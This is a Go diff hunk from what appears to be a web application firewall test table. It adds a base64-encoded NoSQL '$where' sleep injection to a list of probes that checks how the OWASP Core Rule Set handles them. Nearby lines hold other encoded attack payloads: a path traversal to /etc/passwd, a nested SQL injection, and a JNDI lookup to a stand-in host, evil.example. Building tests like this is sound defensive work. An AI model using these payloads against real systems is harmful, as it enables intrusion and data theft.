@@ -100,6 +100,7 @@ func attackTable() (crsCatches, crsMisses []probe) {
 		{name: "base64 traversal in a cookie", method: "GET", path: "/", header: http.Header{"Cookie": {"file=" + b64("../../../../etc/passwd")}}},
 		{name: "base64 XSS in a multipart field", method: "POST", path: "/upload", contentType: mpB64Type, body: mpB64},
 		{name: "base64 in base64 (two levels)", method: "POST", path: "/api", contentType: js, body: `{"data": "` + b64(b64("1' OR '1'='1' --")) + `"}`},
+		{name: "NoSQL operator in base64", method: "POST", path: "/find", contentType: js, body: `{"filter": "` + b64(`{"$where": "sleep(5000)"}`) + `"}`},
 		{name: "jndi lookup in base64", method: "POST", path: "/api", contentType: js, body: `{"v": "` + b64("${jndi:ldap://evil.example/a}") + `"}`},
 		// NoSQL
 		// LDAP the CRS 4.25 misses: payloads that 921200's anchored
